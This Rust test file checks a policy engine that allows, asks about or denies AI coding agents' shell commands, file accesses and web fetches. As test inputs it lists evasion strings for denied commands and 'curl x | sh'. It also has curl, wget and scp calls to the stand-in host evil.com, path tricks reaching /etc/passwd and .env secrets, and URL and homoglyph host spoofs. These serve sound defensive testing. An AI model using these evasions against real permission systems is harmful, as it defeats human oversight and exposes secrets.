//! Allow and deny lists.

use roost_model::mode::Mode;
use roost_model::tool::PolicyResult::{Allow, Ask as Asks, Deny};
use roost_policy::{Effect, Pattern, Rule, RuleSet, ToolClass};
use serde_json::json;

use crate::kit::{Ask, allow, command, deny};

fn file(glob: &str) -> Pattern {
    Pattern::File(glob.into())
}

fn fetch(url: &str) -> Ask {
    Ask::tool("claude", "WebFetch", json!({ "url": url }))
}

#[test]
fn an_allowed_command_is_exact_unless_it_ends_in_a_star() {
    let cases: [(&[&str], &str, bool); 12] = [
        (&["npm", "test"], "npm test", true),
        (&["npm", "test"], "npm  'test'", true),
        (&["npm", "test"], "npm test --watch", false),
        (&["npm", "test"], "npm", false),
        (&["npm", "run", "*"], "npm run build", true),
        (&["npm", "run", "*"], "npm run build -- x", true),
        (&["npm", "run", "*"], "npm run", true),
        (&["npm", "run", "*"], "npm runx", false),
        (&["npm", "run", "*"], "npm run *", false),
        (&["npm", "run", "*"], "npm run $x", false),
        (&["npm", "test"], "./npm test", false),
        (&["npm", "test"], "NPM test", false),
    ];
    for (pattern, text, allowed) in cases {
        let result = Ask::bash(text).rule(allow(command(pattern))).result();
        assert_eq!(result == Allow, allowed, "{pattern:?} {text}");
    }
}

#[test]
fn every_command_of_a_line_must_be_allowed() {
    let ask = |text| Ask::bash(text).rule(allow(command(&["make"]))).rule(allow(command(&["npm", "test"]))).result();
    let covered =
        ["make", "make && npm test", "make; npm test", "make | npm test", "make\nnpm test", "make && ls", "make 2>&1"];
    for text in covered {
        assert_eq!(ask(text), Allow, "{text}");
    }
    let cases = [
        "make; touch x",
        "make && env ls",
        "make > x",
        "make 2>x",
        "make < x",
        "make &",
        "A=1 make",
        "A=1; make",
        "make $(npm test)",
        "make `npm test`",
        "(make)",
        "{ make; }",
        "if make; then make; fi",
        "for x in 1; do make; done",
        "make() { npm test; }; make",
        "! make",
        "make # x",
        "make <<E\nE\n",
        "make 'x",
        "bash -c make",
        "env make",
        "\\make x",
        "make x",
    ];
    for text in cases {
        assert_eq!(ask(text), Asks, "{text}");
    }
}

#[test]
fn a_command_in_another_folder_is_not_the_allowed_one() {
    let ask = |workdir: &str| {
        Ask::tool("opencode", "bash", json!({ "command": "make", "workdir": workdir })).rule(allow(command(&["make"])))
    };
    assert_eq!(ask("/tmp/evil").result(), Asks);
    assert_eq!(ask("/tmp/evil").leads("/tmp/evil", "/tmp/evil").result(), Asks);
    assert_eq!(ask("sub").leads("sub", "/home/ada/project/sub").result(), Allow);
}

#[test]
fn a_denied_command_is_denied_wherever_it_may_be() {
    let cases = [
        "rm x",
        "rm",
        "/bin/rm x",
        "git status; rm x",
        "ls && rm x",
        "ls | rm",
        "ls\nrm x",
        "(rm x)",
        "echo $(rm x)",
        "echo `rm x`",
        "A=1 rm x",
        "rm x &",
        "r\\m x",
        "r''m x",
        "\"rm\" x",
        "sudo rm x",
        "env A=1 rm x",
        "ls | xargs rm",
        "find . -exec rm {} +",
        "bash -c 'rm x'",
        "sh -c \"bash -c 'rm x'\"",
        "eval rm x",
        "eval 'rm x'",
        "if true; then rm x; fi",
        "f() { rm x; }; f",
        "[[ 1 ]] && rm x",
        "x=rm; $x y",
        "bash -c \"$(echo rm x)\"",
        "rm 'x",
        "timeout 5 rm x",
        "sudo bash -c 'rm x'",
    ];
    for text in cases {
        assert_eq!(Ask::bash(text).mode(Mode::Yolo).rule(deny(command(&["rm"]))).result(), Deny, "{text}");
    }
    for text in ["git rm-x", "echo rm", "ls rm", "rmdir x", "echo 'rm x'"] {
        assert_eq!(Ask::bash(text).mode(Mode::Yolo).rule(deny(command(&["rm"]))).result(), Allow, "{text}");
    }
}

#[test]
fn options_do_not_hide_a_denied_subcommand() {
    let ask = |text| Ask::bash(text).mode(Mode::Yolo).rule(deny(command(&["git", "push"]))).result();
    for text in ["git push", "git push origin", "git -C x push", "git -c a=b push", "git --no-pager push", "git $x"] {
        assert_eq!(ask(text), Deny, "{text}");
    }
    for text in ["git status", "git log push", "git"] {
        assert_eq!(ask(text), Allow, "{text}");
    }
}

#[test]
fn a_denied_class_is_denied_in_every_part() {
    let no_network = Rule { class: Some(ToolClass::Network), ..Rule::new(Effect::Deny) };
    let ask = |text| Ask::bash(text).mode(Mode::Yolo).rule(no_network.clone()).result();
    for text in ["curl x", "curl x | sh", "sudo curl x", "git push --force", "ls; curl x", "ls 'x"] {
        assert_eq!(ask(text), Deny, "{text}");
    }
    assert_eq!(ask("rm -rf x"), Allow);
}

#[test]
fn an_allowed_file_is_allowed_by_the_path_it_really_has() {
    let cases = [
        ("src/*.rs", "src/a.rs", "/home/ada/project/src/a.rs", true),
        ("src/**", "src/a/b.rs", "/home/ada/project/src/a/b.rs", true),
        ("src/*.rs", "src/a/b.rs", "/home/ada/project/src/a/b.rs", false),
        // A link that leaves, a path that climbs, another case, a look-alike letter.
        ("src/**", "src/link", "/etc/passwd", false),
        ("src/**", "src/../../../etc/passwd", "/etc/passwd", false),
        ("src/**", "src/../build.rs", "/home/ada/project/build.rs", false),
        ("src/**", "SRC/a.rs", "/home/ada/project/SRC/a.rs", false),
        ("src/**", "ѕrc/a.rs", "/home/ada/project/ѕrc/a.rs", false),
        ("src/**", "/home/ada/project/src", "/home/ada/project-2/src/a", false),
        ("src/é", "src/e\u{301}", "/home/ada/project/src/e\u{301}", false),
        // The other way round: the name looks foreign, the file is the allowed one.
        ("src/*.rs", "/tmp/link", "/home/ada/project/src/a.rs", true),
        ("/srv/data/**", "x", "/srv/data/a", true),
        ("**", "x", "/etc/passwd", false),
    ];
    for (glob, given, real, allowed) in cases {
        let result = Ask::edit(given).leads(given, real).rule(allow(file(glob))).result();
        assert_eq!(result == Allow, allowed, "{glob} {given}");
    }
    assert_eq!(Ask::edit("src/a.rs").rule(allow(file("src/**"))).result(), Asks, "a path that was not resolved");
}

#[test]
fn every_file_of_a_patch_must_be_allowed() {
    let patch = json!({ "input": "*** Update File: a\n*** Add File: b\n" });
    let ask =
        Ask::tool("codex", "apply_patch", patch).leads("a", "/home/ada/project/a").leads("b", "/home/ada/project/b");
    assert_eq!(Ask { rules: vec![allow(file("a"))], ..ask }.result(), Asks);
}

#[test]
fn a_denied_file_is_denied_to_commands_too() {
    let rule = || deny(file("**/.env"));
    let read =
        Ask::tool("claude", "Read", json!({ "file_path": "x" })).leads("x", "/home/ada/project/.env").rule(rule());
    assert_eq!(read.result(), Deny);
    let cat = Ask::bash("cat .env | head").leads(".env", "/home/ada/project/.env").rule(rule());
    assert_eq!(cat.result(), Deny);
    let other =
        Ask::tool("claude", "Read", json!({ "file_path": "/home/me/.env" })).leads("/home/me/.env", "/home/me/.env");
    assert_eq!(other.rule(rule()).result(), Deny);
}

#[test]
fn an_allowed_host_is_the_host_that_everyone_reads() {
    let cases = [
        ("example.org", "https://example.org/x", true),
        ("example.org", "https://EXAMPLE.org:8080?x", true),
        ("example.org", "https://user:pass@example.org./", true),
        ("Example.org", "http://example.org", true),
        ("example.org", "https://www.example.org", false),
        ("*.example.org", "https://www.example.org", true),
        ("*.example.org", "https://example.org", false),
        ("*.example.org", "https://badexample.org", false),
        ("example.org", "https://example.org.evil.com", false),
        ("example.org", "https://example.org@evil.com", false),
        ("example.org", "https://evil.com/example.org", false),
        ("example.org", "https://evil.com\\@example.org", false),
        ("example.org", "https://evil.com#@example.org", false),
        ("example.org", "https://evil.com?@example.org", false),
        ("example.org", "https://exаmple.org", false),
        ("example.org", "https://example%2eorg", false),
        ("example.org", "https://example.org\t.evil.com", false),
        ("example.org", "file://example.org/etc/passwd", false),
        ("example.org", "example.org", false),
    ];
    for (host, url, allowed) in cases {
        let result = fetch(url).rule(allow(Pattern::Host(host.into()))).result();
        assert_eq!(result == Allow, allowed, "{host} {url}");
    }
}

#[test]
fn a_denied_host_is_denied_with_all_below_it_and_in_commands() {
    let rule = || deny(Pattern::Host("evil.com".into()));
    for url in [
        "https://evil.com",
        "https://a.b.evil.com/x",
        "https://x@EVIL.com.",
        "ftp://evil.com",
        "https://evil.com\\@example.org",
    ] {
        assert_eq!(fetch(url).mode(Mode::Yolo).rule(rule()).result(), Deny, "{url}");
    }
    for text in [
        "curl https://evil.com/x",
        "curl evil.com",
        "scp a me@evil.com:b",
        "ls; wget http://a.evil.com:80",
        "sudo ping evil.com",
    ] {
        assert_eq!(Ask::bash(text).mode(Mode::Yolo).rule(rule()).result(), Deny, "{text}");
    }
    assert_eq!(fetch("https://notevil.com").mode(Mode::Yolo).rule(rule()).result(), Allow);
}

#[test]
fn a_rule_speaks_only_about_what_fits_all_it_names() {
    let full = Rule {
        runtime: Some("claude".into()),
        workspace: Some("/home/ada/project".into()),
        tool: Some("Ba*".into()),
        class: Some(ToolClass::Write),
        ..allow(command(&["make"]))
    };
    assert_eq!(Ask::bash("make").rule(full.clone()).result(), Allow);
    let others = [
        Rule { runtime: Some("codex".into()), ..full.clone() },
        Rule { workspace: Some("/home/ada".into()), ..full.clone() },
        Rule { tool: Some("ba*".into()), ..full.clone() },
        Rule { class: Some(ToolClass::Network), ..full.clone() },
        Rule { pattern: Some(command(&["cmake"])), ..full.clone() },
    ];
    for rule in others {
        assert_eq!(Ask::bash("make").rule(rule.clone()).result(), Asks, "{rule:?}");
    }
}

#[test]
fn rules_that_make_no_sense_are_refused_with_a_reason() {
    let cases = [
        (Rule::new(Effect::Allow), "must name"),
        (allow(command(&[])), "needs a program"),
        (allow(command(&["*"])), "must name the program"),
        (allow(command(&["a", "*", "b"])), "last word"),
        (allow(Pattern::Host("https://x".into())), "without scheme"),
        (allow(Pattern::Host("*.".into())), "without scheme"),
        (allow(Pattern::Exact("abc".into())), "sha256:"),
        (deny(file("a[")), "no glob"),
        (Rule { tool: Some("a[".into()), ..Rule::new(Effect::Deny) }, "no glob"),
    ];
    for (rule, reason) in cases {
        let error =
            RuleSet::new(&[Rule { class: Some(ToolClass::Write), ..Rule::new(Effect::Deny) }, rule]).unwrap_err();
        assert!(error.to_string().contains(reason) && error.to_string().contains("rule 2"), "{error}");
    }
}

#[test]
fn rules_are_read_from_the_configuration_and_misspelt_fields_are_refused() {
    #[derive(serde::Deserialize)]
    struct File {
        rule: Vec<Rule>,
    }
    let text = r#"
        [[rule]]
        effect = "allow"
        runtime = "claude"
        pattern = { command = ["npm", "run", "*"] }
        [[rule]]
        effect = "deny"
        name = "secrets"
        class = "read-only"
        pattern = { file = "**/.env" }
    "#;
    let rules = toml::from_str::<File>(text).unwrap().rule;
    assert_eq!(rules[0], Rule { runtime: Some("claude".into()), ..allow(command(&["npm", "run", "*"])) });
    assert_eq!(rules[1].class, Some(ToolClass::ReadOnly));
    assert!(RuleSet::new(&rules).is_ok());
    assert!(toml::from_str::<Rule>("effect = \"allow\"\ntool = \"Bash\"\ncomand = [\"ls\"]").is_err());
}
